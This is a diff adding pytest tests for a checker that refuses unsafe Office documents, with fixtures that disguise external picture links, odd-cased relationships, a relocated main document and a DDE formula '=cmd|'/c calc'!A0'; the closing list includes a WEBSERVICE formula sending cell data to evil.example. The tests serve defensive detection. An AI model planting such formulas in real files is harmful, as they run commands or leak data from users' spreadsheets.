@@ -96,6 +96,36 @@ def test_macros_by_type_pictures_from_outside_and_document_types_are_refused(why
 
 
 @pytest.mark.parametrize(
+    "body",
+    [
+        b'<xml><v src="&#104;ttp://evil.example/a.png"/></xml>',
+        '<?xml version="1.0" encoding="utf-16"?><xml><v src="http://evil.example/a.png"/></xml>'.encode("utf-16"),
+        b'<xml><br><v src=" http://evil.example/a.png"/></xml>',
+    ],
+)
+def test_pictures_from_outside_are_found_however_they_are_written(why, body):
+    assert why(repacked(book(), {"xl/drawings/vmlDrawing1.vml": body})).startswith("文件链接到外面的文件或网址")
+
+
+@pytest.mark.parametrize("name", ["xl/worksheets/_rels/sheet1.xml.RELS", RELS])
+def test_links_of_unusual_spelling_are_links_too(why, name):
+    body = external("image", "http://evil.example/x.png").replace(b'"External"', b'"external"')
+    assert "evil.example" in why(repacked(book(), {name: body}))
+
+
+def test_what_runs_is_found_wherever_it_lies(why):
+    sheet = parts(book("=cmd|'/c calc'!A0"))["xl/worksheets/sheet1.xml"]
+    assert "公式" in why(repacked(book(), {"elsewhere/sheet.bin": sheet}))
+    letters = parts(letter("{{委员.姓名}}"))
+    moved = {
+        TYPES: letters[TYPES].replace(b"/word/document.xml", b"/other/document.xml"),
+        "_rels/.rels": letters["_rels/.rels"].replace(b"word/document.xml", b"other/document.xml"),
+        "other/document.xml": letters["word/document.xml"],
+    }
+    assert "主文档不在应在的位置" in why(repacked(letter("x"), moved), "docx")
+
+
+@pytest.mark.parametrize(
     "formula",
     [
         "=cmd|'/c calc'!A0", '=WEBSERVICE("http://evil.example/"&A1)', '=HYPERLINK("http://evil.example","看")',
